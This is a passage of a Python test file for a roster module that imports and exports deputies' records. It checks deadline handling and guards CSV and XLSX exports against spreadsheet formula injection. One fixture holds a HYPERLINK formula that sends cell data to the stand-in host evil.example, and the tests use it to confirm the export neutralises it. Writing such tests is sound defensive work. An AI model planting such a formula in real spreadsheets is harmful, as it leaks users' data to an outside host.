    assert looks <= 3 * cells, (looks, cells)


# ---------------------------------------------------------------- deadline


def test_parsing_checks_the_deadline_at_every_row(monkeypatch: pytest.MonkeyPatch) -> None:
    checked: list[str] = []
    monkeypatch.setattr(roster, "check_deadline", checked.append)
    parse_roster("deputies", "csv", deputies(GOOD, "", GOOD.replace("D001", "D002")))
    assert checked == [
        "reading row 1 of the roster",
        "reading row 2 of the roster",
        "reading row 3 of the roster",
        "reading row 4 of the roster",
        "checking row 2 of the roster",
        "checking row 4 of the roster",
    ]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_deadline_that_has_passed_stops_the_parse(fmt: str) -> None:
    content = write_roster("deputies", fmt, [FULL_DEPUTY])
    token = grpc_server._deadline.set(time.monotonic() - 1)
    try:
        with pytest.raises(DeadlineExceeded) as caught:
            parse_roster("deputies", fmt, content)
    finally:
        grpc_server._deadline.reset(token)
    assert caught.value.code == grpc.StatusCode.DEADLINE_EXCEEDED
    assert caught.value.message == "the call's deadline passed while reading row 1 of the roster"
    # Outside a call there is no deadline.
    assert parse_roster("deputies", fmt, content)[0].values == FULL_DEPUTY


# ---------------------------------------------------------------- formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&M2&N2,"详情")'
FORMULA_DEPUTY = {**FULL_DEPUTY, "biography": HYPERLINK, "phone": "+8613812345678"}


def test_csv_export_leads_formula_starts_with_a_quote() -> None:
    rows = [
        {**FORMULA_DEPUTY, "code": "D001"},
        {**FULL_DEPUTY, "code": "D002", "profession": "-律师", "workplace": "@单位"},
        {**FULL_DEPUTY, "code": "D003", "workplace": "\t=1+1", "workplace_address": "\r=2"},
    ]
    table = list(csv.reader(io.StringIO(write_roster("deputies", "csv", rows).decode("utf-8-sig"))))
    header = table[0]
    first, second, third = (dict(zip(header, row, strict=True)) for row in table[1:])
    assert first["简介"] == "'" + HYPERLINK
    assert first["电话"] == "'+8613812345678"
    assert (second["职业"], second["工作单位"]) == ("'-律师", "'@单位")
    # Text is exported trimmed, so a leading tab or CR never reaches a cell;
    # were one there, it would be shielded too.
    assert (third["工作单位"], third["单位地址"]) == ("'=1+1", "'=2")
    assert (roster._shield("\tx", "csv"), roster._shield("\rx", "csv")) == ("'\tx", "'\rx")
    assert first["姓名"] == "张伟"  # other text is untouched


def test_xlsx_export_writes_every_text_cell_as_text() -> None:
    row = {**FORMULA_DEPUTY, "profession": "#N/A", "workplace": "-1"}
    sheet = load_workbook(io.BytesIO(write_roster("deputies", "xlsx", [row]))).worksheets[0]
    cells = {sheet.cell(row=1, column=c.column).value: c for c in sheet[2]}
    assert cells["简介"].data_type == "s"
    assert cells["简介"].value == HYPERLINK
    assert cells["简介"].quotePrefix
    assert (cells["电话"].data_type, cells["电话"].value) == ("s", "+8613812345678")
    assert (cells["职业"].data_type, cells["职业"].value) == ("s", "#N/A")
    assert (cells["工作单位"].data_type, cells["工作单位"].value) == ("s", "-1")
    assert not cells["姓名"].quotePrefix
    assert cells["任期开始"].data_type == "d"
    # No formula anywhere in the sheet's XML.
    sheet_source = zipfile.ZipFile(io.BytesIO(write_roster("deputies", "xlsx", [row]))).read(SHEET)
    assert b"<f>" not in sheet_source and b"<f " not in sheet_source


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    "biography",
    [HYPERLINK, "+1", "-", "@x", "'", "'abc", "'=x", "''", "''=x", "普通简介"],
)
def test_formula_like_text_round_trips_exactly(fmt: str, biography: str) -> None:
    row = {**FORMULA_DEPUTY, "biography": biography}
    [parsed] = parse_roster("deputies", fmt, write_roster("deputies", fmt, [row]))
    assert parsed.values == row


def test_a_quote_typed_before_a_formula_start_is_taken_off_on_import() -> None:
    [parsed] = parse_roster(
        "deputies", "csv", deputies(GOOD + ",'+8613812345678,'=1", header=HEADER + ",电话,简介")
    )
    assert (parsed.values["phone"], parsed.values["biography"]) == ("+8613812345678", "=1")
